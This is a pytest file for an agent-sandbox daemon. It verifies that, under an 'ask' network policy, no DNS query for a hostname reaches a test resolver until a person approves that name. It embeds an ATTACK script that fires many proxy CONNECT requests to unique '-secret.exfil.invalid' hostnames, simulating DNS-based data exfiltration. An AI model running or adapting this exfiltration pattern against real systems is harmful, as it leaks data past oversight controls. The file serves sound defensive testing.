"""No name leaves before a yes, end to end: a real daemon in a mount namespace whose
resolv.conf points at a resolver of the test's own on 127.0.0.77, and an agent in real
bubblewrap reaching for many unique names under "ask". Not one query reaches the resolver
until a person allows a name; then that name, and only it, is looked up."""

from __future__ import annotations

import json
import os
import shutil
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import Daemon, needs_bwrap

pytestmark = pytest.mark.skipif(os.getuid() != 0 or not shutil.which("unshare"),
                                reason="a private mount namespace and port 53 need root")

RESOLVER = "127.0.0.77"
NAMES = 30


class Resolver:
    """Answers every query NXDOMAIN and keeps the names asked."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((RESOLVER, 53))
        self.sock.settimeout(0.2)
        self.names: list[str] = []
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                data, peer = self.sock.recvfrom(4096)
            except OSError:
                continue
            labels, i = [], 12
            while i < len(data) and data[i]:
                labels.append(data[i + 1:i + 1 + data[i]].decode(errors="replace"))
                i += 1 + data[i]
            self.names.append(".".join(labels).lower())
            question = data[12:i + 5]
            flags = 0x8183  # a response, recursion available, NXDOMAIN
            self.sock.sendto(data[:2] + struct.pack(">HHHHH", flags, 1, 0, 0, 0) + question, peer)

    def close(self) -> None:
        self._stop = True
        self._thread.join(2)
        self.sock.close()


@pytest.fixture
def resolver() -> Iterator[Resolver]:
    r = Resolver()
    yield r
    r.close()


ATTACK = r"""
import socket, sys, threading
def one(i):
    host = f"d{i}-secret.exfil.invalid"
    try:
        c = socket.create_connection(("127.0.0.1", 3128), timeout=120)
        c.sendall(f"CONNECT {host}:443 HTTP/1.1\r\n\r\n".encode())
        c.recv(4096)
    except OSError:
        pass
threads = [threading.Thread(target=one, args=(i,)) for i in range(int(sys.argv[1]))]
for t in threads: t.start()
for t in threads: t.join()
"""


@needs_bwrap
def test_no_lookup_before_a_person_says_yes(home: Path, daemon_env: dict[str, str],
                                            workspace: Path, resolver: Resolver) -> None:
    (home / "config.toml").write_text(
        '[profiles.asker]\ncommand = ["true"]\n[profiles.asker.network]\ndefault = "ask"\n')
    conf = home / "resolv.conf"
    conf.write_text(f"nameserver {RESOLVER}\noptions timeout:1 attempts:1\n")
    (workspace / "attack.py").write_text(ATTACK)
    d = Daemon(home, daemon_env)
    log = open(home / "daemon-test.log", "ab")  # noqa: SIM115
    d.proc = subprocess.Popen(
        ["unshare", "-m", "--propagation", "private", "sh", "-c",
         f'mount --bind "{conf}" /etc/resolv.conf && exec "{sys.executable}" -m console daemon'],
        env=daemon_env, stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
    log.close()
    out: dict[str, subprocess.CompletedProcess[str]] = {}
    try:
        # Wait for this daemon's socket: a CLI call before it exists would start another
        # daemon, outside the namespace, and the resolver would never hear from it.
        deadline = time.monotonic() + 20
        while not d.sock.exists() and time.monotonic() < deadline:
            assert d.proc.poll() is None, d.log()
            time.sleep(0.05)
        assert d.cli("status").returncode == 0 and d.proc.poll() is None
        t = threading.Thread(target=lambda: out.setdefault("r", d.cli(
            "run", "asker", "-w", str(workspace), "--wait", "--", "python3", "attack.py",
            str(NAMES), check=False, timeout=180)))
        t.start()
        pending: list[dict] = []
        deadline = time.monotonic() + 60
        while len(pending) < 10 and time.monotonic() < deadline:
            pending = json.loads(d.cli("approvals", "--json").stdout)
            time.sleep(0.2)
        assert len(pending) >= 10, pending
        time.sleep(1)
        assert [n for n in resolver.names if "exfil" in n] == [], resolver.names
        chosen = pending[0]
        host = chosen["subject"].rsplit(":", 1)[0]
        d.cli("approve", chosen["id"])
        deadline = time.monotonic() + 20
        while not any(n.startswith(host) for n in resolver.names) and time.monotonic() < deadline:
            time.sleep(0.1)
        asked = {n.split(".exfil")[0] for n in resolver.names if "exfil" in n}
        assert asked == {host.split(".exfil")[0]}, (resolver.names, d.cli("history", "--kind", "net.", "--json").stdout[-3000:])
        for req in json.loads(d.cli("approvals", "--json").stdout):
            d.cli("deny", req["id"], check=False)
        t.join(180)
        assert {n.split(".exfil")[0] for n in resolver.names if "exfil" in n} == asked
    finally:
        d.stop()
